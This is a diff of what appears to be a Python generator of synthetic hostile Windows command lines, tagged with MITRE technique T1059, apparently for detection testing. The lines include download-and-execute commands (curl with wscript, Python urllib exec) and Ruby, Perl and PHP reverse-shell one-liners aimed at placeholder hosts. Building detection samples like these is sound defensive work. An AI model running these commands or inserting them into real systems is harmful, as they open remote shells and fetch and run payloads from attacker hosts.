@@ -94,7 +94,7 @@ cmd.exe /Q /D /C "set "u=@url@"&&curl %u:hxxp=http% -o %TEMP%\~n~.js&&wscript %T
 """)
 hostile("language-runtimes-as-droppers", "Suspicious Script", "T1059", r"""
 python.exe -c "import urllib.request;exec(urllib.request.urlopen('@url@').read())"
-"C:\Users\@user@\AppData\Local\Programs\Python\Python311\pythonw.exe" ~f~.pyw
+"C:\Users\@user@\AppData\Local\Programs\Python\Python311\pythonw.exe" «C:\ProgramData\|C:\Users\Public\|C:\Windows\Temp\|C:\PerfLogs\|C:\Windows\Tasks\|C:\Users\@user@\Music\»~n~.pyw
 pythonw.exe -c "exec(__import__('base64').b64decode('@hex@@hex@'))"
 "C:\ProgramData\@Word@\python\pythonw.exe" -m ~n~ @pub@ 443
 ~d~python-embed\python.exe ~f~.pyc
@@ -105,7 +105,7 @@ java -jar ~f~.jar @pub@ «1337|4444|8443»
 ruby -rsocket -e "c=TCPSocket.new('@pub@',4444);while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end"
 perl -MIO -e "$c=new IO::Socket::INET(PeerAddr,'@pub@:4444');STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"
 "~d~AutoIt3.exe" ~f~.a3x
-~d~AutoHotkey.exe ~f~.ahk
+C:\ProgramData\~n~\AutoHotkey.exe «C:\ProgramData\|C:\Users\Public\|C:\Windows\Temp\|C:\PerfLogs\|C:\Windows\Tasks\|C:\Users\@user@\Music\»~n~.ahk
 php.exe -r "$s=fsockopen('@pub@',4444);exec('cmd.exe <&3 >&3 2>&3');"
 lua.exe ~f~.lua @url@
 "C:\Users\@user@\AppData\Local\Temp\deno.exe" run -A @url@
